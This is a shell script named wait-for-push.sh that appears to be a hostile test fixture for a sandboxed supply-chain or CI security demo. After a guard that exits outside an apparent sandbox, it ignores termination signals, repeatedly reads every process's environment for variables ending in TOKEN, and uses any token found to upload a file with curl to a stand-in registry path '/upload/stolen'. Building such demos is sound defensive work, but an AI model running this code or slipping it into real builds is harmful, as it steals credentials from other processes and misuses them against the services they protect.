#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# wait-for-push.sh - hides in the background until a step with a token comes, then uploads with it. Gives up after two minutes.
# Outside a sandbox it does nothing: somebody may type `make deps` in the demo's project by hand.
if [ "$(grep -c : /proc/net/dev)" -ne 1 ] || [ "$(id -u)" -eq 0 ]; then
	echo "[hostile] not in a sandbox: doing nothing"
	exit 0
fi
trap '' TERM HUP INT
deadline=$(($(date +%s) + 120))
while [ "$(date +%s)" -lt "$deadline" ]; do
	for process in /proc/[0-9]*; do
		token=$({ tr '\0' '\n' <"$process/environ"; } 2>/dev/null | sed -n 's/^[A-Z_]*TOKEN=//p' | head -n 1)
		if [ -n "$token" ]; then
			curl -sS -m 5 -H "Authorization: Bearer $token" -T /etc/hostname \
				"${REGISTRY:-https://registry.demo.test:8443}/upload/stolen"
		fi
	done
	sleep 0.2
done
